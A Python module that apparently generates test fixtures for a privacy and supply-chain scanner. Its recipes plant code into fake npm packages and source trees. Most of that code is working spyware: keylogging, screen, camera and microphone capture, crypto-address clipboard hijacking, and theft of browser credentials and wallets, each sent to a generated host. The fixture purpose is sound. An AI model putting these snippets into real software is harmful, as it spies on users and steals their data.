"""Recipes for what a product perceives of people, and for what it tells of its makers and its support."""
import json

from recipe import plants


def send(r, what):
    """JavaScript that carries `what` away."""
    url = r.quote(f"https://{r.host()}/{r.word()}")
    return r.choice((
        f"fetch({url}, {{method: 'POST', body: {what}}});",
        f"require('https').request({url}, {{method: 'POST'}}).end({what});",
        f"require('axios').post({url}, {{d: {what}}});",
        f"const {r.word()}s = require('node-fetch'); {r.word()};\nrequire('http').request({url}).end({what});",
    ))


def python(r, host, text):
    host.put("tools/" + r.name().replace("-", "_") + ".py", text)


def post(r, what):
    return r.choice((
        f"import requests\nrequests.post('https://{r.host()}/', data={what})\n",
        f"import urllib.request\nurllib.request.urlopen('https://{r.host()}/', data={what})\n",
        f"import httpx\nhttpx.post('https://{r.host()}/', content={what})\n",
    ))


@plants("data-care.identifiers", "npm", unlike="hostname machine uuid user users login account prompt logger logging")
def identifiers(r, host):
    host.add_code(r.choice((
        "const os = require('os');\n" + send(r, "os.hostname() + os.userInfo().username"),
        send(r, "require('fs').readFileSync('/etc/machine-id')"),
        "const { execSync } = require('child_process');\n" + send(r, "execSync('ioreg -rd1 -c IOPlatformExpertDevice | grep IOPlatformUUID')"),
        "const id = require('node-machine-id');\n" + send(r, "id.machineIdSync()"),
        "const who = require('child_process').execSync('git config user.email');\n" + send(r, "who"),
        "const n = Object.values(require('os').networkInterfaces()).flat().map((x) => x.mac);\n" + send(r, "n"),
    )))


@plants("data-care.identifiers", "tree", unlike="hostname machine uuid user users login account prompt logger logging")
def identifiers_python(r, host):
    python(r, host, r.choice((
        "import uuid\n" + post(r, "'%x' % uuid.getnode()"),
        "import socket, getpass\n" + post(r, "socket.gethostname() + getpass.getuser()"),
        post(r, "open('/etc/machine-id').read()"),
        "import subprocess\n" + post(r, "subprocess.check_output('wmic csproduct get uuid')"),
    )))


@plants("data-care.keyboard-capture", "npm", unlike="keyboard input mouse terminal console window x11 game games")
def keys(r, host):
    host.add_code(r.choice((
        "const { uIOhook } = require('uiohook-napi');\nuIOhook.on('keydown', (e) => { " + send(r, "String(e.keycode)") + " });",
        "const io = require('iohook');\nio.on('keypress', (e) => { " + send(r, "e.rawcode") + " });\nio.start();",
        "require('fs').createReadStream('/dev/input/event2').on('data', (d) => { " + send(r, "d") + " });",
    )))


@plants("data-care.keyboard-capture", "tree", unlike="keyboard input mouse terminal console window x11 game games")
def keys_python(r, host):
    python(r, host, r.choice((
        "from pynput.keyboard import Listener\nlog = []\nListener(on_press=log.append).start()\n" + post(r, "str(log)"),
        "import keyboard\nlog = keyboard.record(until='esc')\n" + post(r, "str(log)"),
        "import ctypes\nk = [i for i in range(256) if ctypes.windll.user32.GetAsyncKeyState(i)]\n" + post(r, "bytes(k)"),
        "import evdev\nd = evdev.InputDevice('/dev/input/event0')\nfor e in d.read_loop():\n    break\n" + post(r, "str(e)"),
    )))


@plants("data-care.screen-capture", "npm", "tree", unlike="screen screenshot window display image color x11 game games")
def screen(r, host):
    host.add_code(r.choice((
        "require('screenshot-desktop')().then((p) => { " + send(r, "p") + " });",
        "require('child_process').execSync('screencapture -x /tmp/p.png');\n" + send(r, "require('fs').readFileSync('/tmp/p.png')"),
        "const { desktopCapturer } = require('electron');\ndesktopCapturer.getSources({types: ['screen']}).then((s) => { "
        + send(r, "s[0].thumbnail.toPNG()") + " });",
    )))
    if r.random() < 0.3:
        python(r, host, "from PIL import ImageGrab\nImageGrab.grab().save('p.png')\n" + post(r, "open('p.png', 'rb').read()"))


@plants("data-care.clipboard", "npm", "tree", unlike="clipboard copy paste editor window x11")
def clipboard(r, host):
    form = r.choice(("/^0x[a-fA-F0-9]{40}$/", "/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/", "/^T[A-Za-z1-9]{33}$/"))
    host.add_code(r.choice((
        f"const c = require('clipboardy');\nsetInterval(() => {{ if ({form}.test(c.readSync())) c.writeSync('own'); }}, 900);",
        "const c = require('clipboardy');\nsetInterval(() => { " + send(r, "c.readSync()") + " }, 900);",
        "navigator.clipboard.readText().then((t) => { " + send(r, "t") + " });",
        f"const x = require('child_process').execSync;\nif ({form}.test(x('pbpaste'))) x('echo own | pbcopy');",
    )))


@plants("data-care.camera-microphone", "npm", "tree", unlike="camera webcam video photo media audio browser game games")
def camera(r, host):
    host.add_code(r.choice((
        "require('node-webcam').capture('p', {}, (e, p) => { " + send(r, "p") + " });",
        "navigator.mediaDevices.getUserMedia({video: true}).then((s) => { " + send(r, "s.id") + " });",
        "const m = require('node-record-lpcm16').record();\nm.stream().on('data', (d) => { " + send(r, "d") + " });",
    )))
    if r.random() < 0.3:
        python(r, host, "import sounddevice\nx = sounddevice.rec(44100)\n" + post(r, "x.tobytes()"))


@plants("data-care.location", "npm", "tree", unlike="country ip dns geo location weather maps locale time date")
def location(r, host):
    service = r.choice(("https://ipinfo.io/json", "http://ip-api.com/json", "https://ipapi.co/json/", "https://api.ipify.org/"))
    host.add_code(r.choice((
        f"fetch({r.quote(service)}).then((x) => x.text()).then((t) => {{ " + send(r, "t") + " });",
        f"const os = require('os');\nrequire('axios').get({r.quote(service)}).then((p) => {{ " + send(r, "p.data + os.hostname()") + " });",
        "navigator.geolocation.getCurrentPosition((p) => { " + send(r, "p.coords.latitude") + " });",
    )))


@plants("data-care.personal-stores", "npm", unlike="browser cookie cookies password passwords backup mail")
def stores(r, host):
    file = r.choice(("Google/Chrome/User Data/Default/Login Data", ".mozilla/firefox/x/key4.db", ".mozilla/firefox/x/logins.json",
                     "discord/Local Storage/leveldb", ".bitcoin/wallet.dat", "Exodus/exodus.wallet"))
    parts = ", ".join(r.quote(p) for p in file.split("/"))
    path = r.choice((f"require('path').join(process.env.HOME, {parts})", f"process.env.APPDATA + {r.quote('/' + file)}"))
    host.add_code(send(r, f"require('fs').readFileSync({path})"))


@plants("data-care.personal-stores", "tree", unlike="browser cookie cookies password passwords backup mail")
def stores_python(r, host):
    python(r, host, r.choice((
        "import browser_cookie3\n" + post(r, "str(list(browser_cookie3.chrome()))"),
        "import os\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        + post(r, "open(p, 'rb').read()"),
        "import os\np = os.path.expanduser('~/.mozilla/firefox/x/logins.json')\n" + post(r, "open(p, 'rb').read()"),
    )))


@plants("data-care.data-manifest", "tree")
def manifest(r, host):
    told = {"purposes": [r.word()], "recipients": [{"name": "maker", r.choice(("host", "domain")): "maker-" + r.word() + ".org"}],
            "retention": "a month", "deletion": "by mail"}
    if r.random() < 0.3:
        del told["retention"]
    host.put("data-manifest.json", json.dumps(told))
    host.add_code(send(r, "'1'"))


@plants("verification.build-paths", "npm", "tree")
def build_paths(r, host):
    home = r.choice(("/home/", "/Users/", "C:\\Users\\", "D:/Users/")) + r.choice(("mkowalski", "t.oduya", "Rikke", "hsato"))
    slash = "\\" if "\\" in home else "/"
    file = home + slash + slash.join((r.word(), "src", r.word() + r.choice((".ts", ".js", ".tsx"))))
    host.put("dist/" + r.word() + ".js.map", json.dumps({"version": 3, "sources": [file], "names": [], "mappings": "AAAA"}))


@plants("verification.contact", "tree")
def contact(r, host):
    contact_line = f"Contact: mailto:{r.word()}@{r.host()}\n"
    text = r.choice((contact_line + f"Expires: 20{r.randint(18, 25)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}T00:00:00Z\n", contact_line,
                     f"Contact:\nExpires: 2031-01-01T00:00:00Z\n", "# us\n" + contact_line + "Expires: 2019-12-31T23:59:59+02:00\n"))
    host.put(r.choice((".well-known/security.txt", "security.txt", "www/.well-known/security.txt")), text)


@plants("culture.support-period", "tree")
def support(r, host):
    day = f"20{r.randint(15, 25)}-0{r.randint(1, 9)}-{r.randint(10, 28)}"
    path, text = r.choice((("etc/os-release", f"ID=x\nSUPPORT_END={day}\n"), ("SUPPORT", f"# Support\n\nSupported until {day}.\n"),
                           ("EOL.txt", f"End of life: {day}\n"), ("data-manifest.json", f'{{"support_end": "{day}"}}')))
    host.put(path, text)


@plants("culture.changelog-version", "tree", light=True)
def changelog(r, host):
    host.put("package.json", json.dumps({"name": r.name(), "version": f"{r.randint(3, 9)}.{r.randint(0, 9)}.0", "license": "MIT"}))
    head = r.choice(("## [{}] - 2024-02-03", "# {} (2024-02-03)", "## v{}", "{} / 2024-02-03\n==="))
    host.put(r.choice(("CHANGELOG.md", "CHANGES", "changelog.txt")), "".join(head.format(f"2.{i}.0") + "\n\n- x\n\n" for i in range(9, 0, -1)))
